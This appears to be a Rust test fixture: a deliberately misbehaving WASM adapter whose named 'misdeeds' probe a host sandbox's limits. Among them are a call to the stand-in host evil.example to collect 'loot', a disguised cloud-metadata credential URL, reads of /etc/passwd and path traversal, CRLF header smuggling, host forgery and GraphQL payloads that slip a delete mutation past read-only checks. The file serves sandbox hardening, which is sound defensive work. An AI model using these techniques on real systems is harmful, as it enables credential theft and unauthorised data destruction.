//! The misdeeds. `argument` is the rest of the order behind their name.

use infrahub_sync_adapter::{
    Column, ColumnData, Columns, Document, Error, Layout, LoadRequest, Outcome, Page, Payload, Response, Result, TextData, WriteRequest,
    files,
    http::{self, Header, Request},
    log, memo,
};

use crate::misdeeds::for_each_misdeed;
use crate::{KEPT, column, text, texts};

macro_rules! dispatch {
    ($($misdeed:ident)*) => {
        /// Does what the order says, if it is one of these.
        pub(crate) fn commit(order: &str, argument: &str, request: &LoadRequest) -> Option<Result<Page>> {
            match order {
                $(stringify!($misdeed) => Some($misdeed(&Order { argument, request })),)*
                _ => None,
            }
        }
    };
}
for_each_misdeed!(dispatch);

struct Order<'a> {
    argument: &'a str,
    request: &'a LoadRequest,
}

fn computes_forever(_: &Order) -> Result<Page> {
    loop {
        std::hint::black_box(());
    }
}

fn computes_for_the_whole_run(order: &Order) -> Result<Page> {
    computes_forever(order)
}

fn waits_forever(order: &Order) -> Result<Page> {
    http::get(order.argument).send()?;
    Ok(Page::empty())
}

fn waits_for_the_whole_run(order: &Order) -> Result<Page> {
    waits_forever(order)
}

fn sleeps_forever(_: &Order) -> Result<Page> {
    reach::wasi::clocks::monotonic_clock::subscribe_duration(u64::MAX).block();
    Ok(Page::empty())
}

fn hoards_memory(_: &Order) -> Result<Page> {
    let mut hoard = Vec::new();
    loop {
        hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
    }
}

fn recurses_forever(_: &Order) -> Result<Page> {
    Ok(text(&[crate::recurse(1)]))
}

fn panics(_: &Order) -> Result<Page> {
    panic!("it all went wrong");
}

fn hands_over_too_much(_: &Order) -> Result<Page> {
    Ok(text(&vec![b' '; 2 << 20]))
}

/// A list of headers that are all the same megabyte of this guest's memory, and a gigabyte in the host's if it takes them.
fn names_the_same_bytes_a_thousand_times(_: &Order) -> Result<Page> {
    let megabyte = std::mem::ManuallyDrop::new("x".repeat(1 << 20));
    let again = || {
        // SAFETY: none of these is ever dropped or changed.
        let value = unsafe { String::from_raw_parts(megabyte.as_ptr().cast_mut(), megabyte.len(), megabyte.len()) };
        Header { name: String::from("x"), value }
    };
    let mut request = Request::new("GET", "/");
    request.headers = (0..1000).map(|_| again()).collect();
    let request = std::mem::ManuallyDrop::new(request);
    request.send()?;
    Ok(Page::empty())
}

fn hands_over_too_many_records(_: &Order) -> Result<Page> {
    let data = ColumnData::Booleans(vec![true; 100]);
    Ok(Page::new(Payload::Columns(Columns { rows: 100, columns: vec![Column { name: "a".into(), validity: None, data }] })))
}

/// Their number shows only when they are parsed.
fn hands_over_too_many_lines(_: &Order) -> Result<Page> {
    Ok(text(&b"{}\n".repeat(100)))
}

fn pages_forever(order: &Order) -> Result<Page> {
    let mut next = order.request.cursor.clone().unwrap_or_default();
    next.push(b'x');
    Ok(Page { next: Some(next), ..text(b"{}\n") })
}

fn pages_in_place(order: &Order) -> Result<Page> {
    Ok(Page { next: Some(order.request.cursor.clone().unwrap_or(b"again".to_vec())), ..Page::empty() })
}

/// A page that leads to another, which leads back.
fn pages_in_a_circle(order: &Order) -> Result<Page> {
    let next = if order.request.cursor.as_deref() == Some(b"here") { "there" } else { "here" };
    Ok(Page { next: Some(next.into()), ..text(b"{}\n") })
}

fn makes_a_cursor_of_a_megabyte(_: &Order) -> Result<Page> {
    Ok(Page { next: Some(vec![0; 1 << 20]), ..Page::empty() })
}

/// The host adds such numbers.
fn counts_to_the_last_number(_: &Order) -> Result<Page> {
    Ok(Page { total: Some(u64::MAX), ..text(b"{}\n") })
}

fn lies_about_utf8(_: &Order) -> Result<Page> {
    Ok(text(b"{\"a\": \"\xff\"}\n"))
}

fn lies_about_offsets(_: &Order) -> Result<Page> {
    Ok(texts(&[0, 9, 3], b"abc"))
}

fn cuts_a_character(_: &Order) -> Result<Page> {
    Ok(texts(&[0, 1, 3], "éa".as_bytes()))
}

fn lies_about_the_length_of_a_column(_: &Order) -> Result<Page> {
    Ok(column(ColumnData::Texts(TextData { offsets: vec![0, 1], bytes: b"a".to_vec() })))
}

/// Misbehaves in `write`: see [`outcomes`].
fn lies_about_outcomes(_: &Order) -> Result<Page> {
    Ok(Page::empty())
}

/// Misbehaves in `write`: see [`outcomes`].
fn invents_outcomes(_: &Order) -> Result<Page> {
    Ok(Page::empty())
}

/// Returns one outcome too few, or too many.
pub(crate) fn outcomes(request: &WriteRequest) -> Option<Vec<Outcome>> {
    let count = match request.target.kind.as_str() {
        "lies_about_outcomes" => request.count - 1,
        "invents_outcomes" => request.count + 1,
        _ => return None,
    };
    Some((0..count).map(|_| Outcome::Staged).collect())
}

fn points(order: &Order, pointer: String) -> Result<Page> {
    let response = http::get(order.argument).send()?;
    let projection = vec![("a".to_owned(), pointer)];
    Ok(Page::new(Payload::Document(Document { response, layout: Layout::JsonLines, pointer: String::new(), projection })))
}

fn points_nowhere(order: &Order) -> Result<Page> {
    points(order, "no-pointer".into())
}

fn points_too_deep(order: &Order) -> Result<Page> {
    points(order, "/a".repeat(500_000))
}

fn hands_over_a_response_of_an_earlier_call(order: &Order) -> Result<Page> {
    match KEPT.take() {
        Some(response) => Ok(Page::document(response, "")),
        None => {
            KEPT.set(Some(http::get(order.argument).send()?));
            Ok(Page::empty())
        }
    }
}

fn uses_a_response_that_it_released(order: &Order) -> Result<Page> {
    let response = http::get(order.argument).send()?;
    // SAFETY: the copy is never dropped; its dead handle is the point.
    let copy: std::mem::ManuallyDrop<Response> = unsafe { std::mem::transmute_copy(&response) };
    response.release();
    Ok(text(copy.status().to_string().as_bytes()))
}

fn asks_for_a_million_pointers(order: &Order) -> Result<Page> {
    let response = http::get(order.argument).send()?;
    let pointers: Vec<String> = (0..1_000_000).map(|number| format!("/{number}")).collect();
    let found = response.json(&pointers.iter().map(String::as_str).collect::<Vec<_>>());
    Ok(text(found.iter().flatten().count().to_string().as_bytes()))
}

fn asks_for_one_text_a_million_times(order: &Order) -> Result<Page> {
    let response = http::get(order.argument).send()?;
    let found = response.json(&vec![""; 1_000_000]);
    Ok(text(found.iter().flatten().count().to_string().as_bytes()))
}

fn asks_in_a_circle(order: &Order) -> Result<Page> {
    loop {
        // It ignores every answer.
        let _ = http::get(order.argument).send();
    }
}

fn asks_for_the_whole_run(order: &Order) -> Result<Page> {
    http::get(order.argument).send()?;
    Ok(Page::empty())
}

fn hoards_responses(order: &Order) -> Result<Page> {
    let mut kept = Vec::new();
    loop {
        kept.push(http::get(order.argument).send()?);
    }
}

fn hoards_bodies(order: &Order) -> Result<Page> {
    hoards_responses(order)
}

fn asks_for_a_huge_answer(order: &Order) -> Result<Page> {
    http::get(order.argument).send()?;
    Ok(Page::empty())
}

fn asks_another_origin(_: &Order) -> Result<Page> {
    http::get("https://evil.example/collect?loot=all").send()?;
    Ok(Page::empty())
}

fn asks_another_port(order: &Order) -> Result<Page> {
    http::get(order.argument).send()?;
    Ok(Page::empty())
}

/// Asks the metadata service of most clouds, in a disguised spelling.
fn asks_the_cloud(_: &Order) -> Result<Page> {
    http::get("http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/").send()?;
    Ok(Page::empty())
}

fn asks_for_a_file_by_url(_: &Order) -> Result<Page> {
    http::get("file:///etc/passwd").send()?;
    Ok(Page::empty())
}

fn hides_credentials_in_a_url(order: &Order) -> Result<Page> {
    http::get(order.argument.replacen("http://", "http://joe:hunter2@", 1)).send()?;
    Ok(Page::empty())
}

fn with_header(name: &str, value: &str) -> Result<Page> {
    http::get("/").with_header(name, value).send()?;
    Ok(Page::empty())
}

fn forges_a_credential(_: &Order) -> Result<Page> {
    with_header("Authorization", "Token of another user")
}

fn forges_the_host(_: &Order) -> Result<Page> {
    with_header("host", "evil.example")
}

fn smuggles_a_header(_: &Order) -> Result<Page> {
    with_header("x", "a\r\ncookie: b")
}

fn tunnels(_: &Order) -> Result<Page> {
    Request::new("connect", "/").send()?;
    Ok(Page::empty())
}

/// Ignores a denial and reports success.
fn swallows_a_denial(_: &Order) -> Result<Page> {
    let _ = http::get("https://evil.example/").send();
    Ok(text(b"{}\n"))
}

fn asks_with_a_url_of_a_megabyte(_: &Order) -> Result<Page> {
    http::get(format!("/{}", "a".repeat(1 << 20))).send()?;
    Ok(Page::empty())
}

fn sends(method: &str, url: &str, headers: &[(&str, &str)], body: &str) -> Result<Page> {
    let mut request = Request::new(method, url).only_reads();
    for (name, value) in headers {
        request = request.with_header(name, value);
    }
    request.body = (!body.is_empty()).then(|| body.as_bytes().to_vec());
    request.send()?;
    Ok(Page::empty())
}

fn puts_while_it_reads(_: &Order) -> Result<Page> {
    sends("PUT", "/search", &[], "{}")
}

fn deletes_while_it_reads(_: &Order) -> Result<Page> {
    sends("delete", "/devices/1", &[], "")
}

fn posts_while_it_reads(_: &Order) -> Result<Page> {
    sends("POST", "/devices", &[], "{}")
}

fn sends_a_body_with_a_get(_: &Order) -> Result<Page> {
    sends("GET", "/devices", &[], "{\"delete\": true}")
}

fn overrides_the_method(_: &Order) -> Result<Page> {
    sends("GET", "/devices/1", &[("X-HTTP-Method-Override", "DELETE")], "")
}

const JSON: (&str, &str) = ("content-type", "application/json");

/// Sends a document as it would be written in JSON.
fn graphql(document: &str) -> Result<Page> {
    sends("POST", "/graphql/main", &[JSON], &format!("{{\"query\": \"{document}\"}}"))
}

fn sends_a_mutation(_: &Order) -> Result<Page> {
    graphql("mutation { delete(id: 1) { ok } }")
}

fn hides_a_mutation_behind_a_comment(_: &Order) -> Result<Page> {
    graphql("# query {\\r\\n,, # a\\rmutation { delete(id: 1) { ok } }")
}

fn hides_a_mutation_behind_an_alias(_: &Order) -> Result<Page> {
    graphql("query query { query: a } mutation query { query: delete(id: 1) { ok } }")
}

fn hides_a_mutation_behind_a_string(_: &Order) -> Result<Page> {
    graphql("{ a(b: \\\"\\\"\\\" } #\\\"\\\"\\\") } mutation { delete(id: 1) { ok } }")
}

fn hides_a_mutation_behind_unicode(_: &Order) -> Result<Page> {
    graphql("# a\u{2028}mutation { delete(id: 1) { ok } }\\n{ a }")
}

fn hides_a_mutation_behind_an_escape(_: &Order) -> Result<Page> {
    graphql("\\u006dutation { delete(id: 1) { ok } }")
}

fn hides_a_mutation_in_a_batch(_: &Order) -> Result<Page> {
    sends("POST", "/graphql/main", &[JSON], r#"[{"query": "{ a }"}, {"query": "mutation { delete(id: 1) { ok } }"}]"#)
}

fn hides_a_mutation_behind_an_operation_name(_: &Order) -> Result<Page> {
    let body = r#"{"operationName": "B", "query": "query A { a } mutation B { delete(id: 1) { ok } }"}"#;
    sends("POST", "/graphql/main", &[JSON], body)
}

fn hides_a_mutation_behind_a_query_of_the_same_name(_: &Order) -> Result<Page> {
    sends("POST", "/graphql/main", &[JSON], r#"{"query": "mutation { delete(id: 1) { ok } }", "query": "{ a }"}"#)
}

fn hides_a_mutation_in_a_get(_: &Order) -> Result<Page> {
    sends("GET", "/other?query=mutation%20%7B%20delete(id:1)%20%7Bok%7D%7D", &[], "")
}

fn hides_a_mutation_in_another_type(_: &Order) -> Result<Page> {
    sends("POST", "/graphql/main", &[("content-type", "application/graphql")], "mutation { delete(id: 1) { ok } }")
}

fn climbs_out_of_a_reading_path(_: &Order) -> Result<Page> {
    sends("POST", "/graphql/..%2Fdevices", &[JSON], r#"{"query": "{ a }"}"#)
}

fn writes_a_file_while_it_reads(_: &Order) -> Result<Page> {
    files::append("new.txt", b"x")?;
    Ok(Page::empty())
}

fn climbs_out_of_the_folder(_: &Order) -> Result<Page> {
    Ok(Page::lines(files::read("sub/../../secret")?))
}

fn names_an_absolute_path(_: &Order) -> Result<Page> {
    Ok(Page::lines(files::read("/etc/passwd")?))
}

fn follows_a_link_out(_: &Order) -> Result<Page> {
    Ok(Page::lines(files::read("link")?))
}

fn writes_through_a_link(_: &Order) -> Result<Page> {
    files::append("up/planted", b"x")?;
    Ok(Page::empty())
}

fn writes_to_a_source(_: &Order) -> Result<Page> {
    files::append("planted", b"x")?;
    Ok(Page::empty())
}

fn reads_a_huge_file(order: &Order) -> Result<Page> {
    Ok(Page::lines(files::read(order.argument)?))
}

fn reads_a_pipe(order: &Order) -> Result<Page> {
    Ok(Page::lines(files::read(order.argument)?))
}

fn writes_to_a_pipe(order: &Order) -> Result<Page> {
    files::append(order.argument, b"x")?;
    Ok(text(b"written"))
}

fn asks_for_a_folder_that_nobody_granted(_: &Order) -> Result<Page> {
    Ok(text(files::list()?.join(" ").as_bytes()))
}

fn logs_forever(_: &Order) -> Result<Page> {
    for number in 0..1000 {
        log::warn(&format!("line {number}"));
    }
    Ok(Page::empty())
}

fn logs_a_book(_: &Order) -> Result<Page> {
    log::warn(&"é".repeat(1 << 20));
    Ok(Page::empty())
}

/// Returns how many of 200 notes of a megabyte are kept.
fn floods_the_memos(_: &Order) -> Result<Page> {
    let note = vec![7u8; 1 << 20];
    let keys: Vec<String> = (0..200).map(|number| format!("key {number}")).collect();
    keys.iter().for_each(|key| drop(memo::put(memo::Lifetime::Run, key, &note)));
    let kept = keys.iter().filter(|key| memo::get(memo::Lifetime::Run, key).is_some()).count();
    Ok(text(kept.to_string().as_bytes()))
}

/// Writes the same memo for later runs again and again.
fn keeps_memos_forever(_: &Order) -> Result<Page> {
    loop {
        memo::put(memo::Lifetime::Lasting, "key", &[7u8; 1 << 10]);
    }
}

fn reads_the_environment(_: &Order) -> Result<Page> {
    use reach::wasi::cli::environment::{get_arguments, get_environment, initial_cwd};
    Ok(text(format!("{:?} {:?} {:?}", get_environment(), get_arguments(), initial_cwd()).as_bytes()))
}

fn looks_for_folders(_: &Order) -> Result<Page> {
    Ok(text(reach::wasi::filesystem::preopens::get_directories().len().to_string().as_bytes()))
}

fn opens_a_socket(order: &Order) -> Result<Page> {
    use reach::wasi::sockets::instance_network::instance_network;
    use reach::wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
    use reach::wasi::sockets::tcp_create_socket::create_tcp_socket;
    let refused = |code| Error::internal(format!("{code:?}"));
    let socket = create_tcp_socket(IpAddressFamily::Ipv4).map_err(refused)?;
    let port = order.argument.rsplit(':').next().and_then(|port| port.parse().ok()).unwrap_or(80);
    let address = IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address: (127, 0, 0, 1) });
    socket.start_connect(&instance_network(), address).map_err(refused)?;
    Ok(text(b"connected"))
}

fn looks_up_a_name(_: &Order) -> Result<Page> {
    use reach::wasi::sockets::instance_network::instance_network;
    use reach::wasi::sockets::ip_name_lookup::resolve_addresses;
    match resolve_addresses(&instance_network(), "localhost") {
        Ok(_) => Ok(text(b"resolved")),
        Err(code) => Err(Error::internal(format!("{code:?}"))),
    }
}

/// The parts of WASI that would lead out, as far as the attempts need them.
mod reach {
    wit_bindgen::generate!({
        inline: "
            package puppet:reach;

            world reach {
                import wasi:cli/environment@0.2.0;
                import wasi:clocks/monotonic-clock@0.2.0;
                import wasi:filesystem/preopens@0.2.0;
                import wasi:sockets/instance-network@0.2.0;
                import wasi:sockets/ip-name-lookup@0.2.0;
                import wasi:sockets/tcp-create-socket@0.2.0;
            }

            package wasi:cli@0.2.0 {
                interface environment {
                    get-environment: func() -> list<tuple<string, string>>;
                    get-arguments: func() -> list<string>;
                    initial-cwd: func() -> option<string>;
                }
            }

            package wasi:io@0.2.0 {
                interface poll {
                    resource pollable {
                        block: func();
                    }
                }
            }

            package wasi:clocks@0.2.0 {
                interface monotonic-clock {
                    use wasi:io/poll@0.2.0.{pollable};
                    subscribe-duration: func(when: u64) -> pollable;
                }
            }

            package wasi:filesystem@0.2.0 {
                interface types {
                    resource descriptor;
                }
                interface preopens {
                    use types.{descriptor};
                    get-directories: func() -> list<tuple<descriptor, string>>;
                }
            }

            package wasi:sockets@0.2.0 {
                interface network {
                    resource network;
                    enum error-code {
                        unknown, access-denied, not-supported, invalid-argument, out-of-memory, timeout, concurrency-conflict,
                        not-in-progress, would-block, invalid-state, new-socket-limit, address-not-bindable, address-in-use,
                        remote-unreachable, connection-refused, connection-reset, connection-aborted, datagram-too-large,
                        name-unresolvable, temporary-resolver-failure, permanent-resolver-failure,
                    }
                    enum ip-address-family { ipv4, ipv6 }
                    record ipv4-socket-address { port: u16, address: tuple<u8, u8, u8, u8> }
                    record ipv6-socket-address {
                        port: u16, flow-info: u32, address: tuple<u16, u16, u16, u16, u16, u16, u16, u16>, scope-id: u32
                    }
                    variant ip-socket-address { ipv4(ipv4-socket-address), ipv6(ipv6-socket-address) }
                }
                interface instance-network {
                    use network.{network};
                    instance-network: func() -> network;
                }
                interface ip-name-lookup {
                    use network.{network, error-code};
                    resource resolve-address-stream;
                    resolve-addresses: func(network: borrow<network>, name: string) -> result<resolve-address-stream, error-code>;
                }
                interface tcp {
                    use network.{network, error-code, ip-socket-address};
                    resource tcp-socket {
                        start-connect: func(network: borrow<network>, remote-address: ip-socket-address) -> result<_, error-code>;
                    }
                }
                interface tcp-create-socket {
                    use network.{error-code, ip-address-family};
                    use tcp.{tcp-socket};
                    create-tcp-socket: func(address-family: ip-address-family) -> result<tcp-socket, error-code>;
                }
            }
        ",
        generate_all,
    });
}
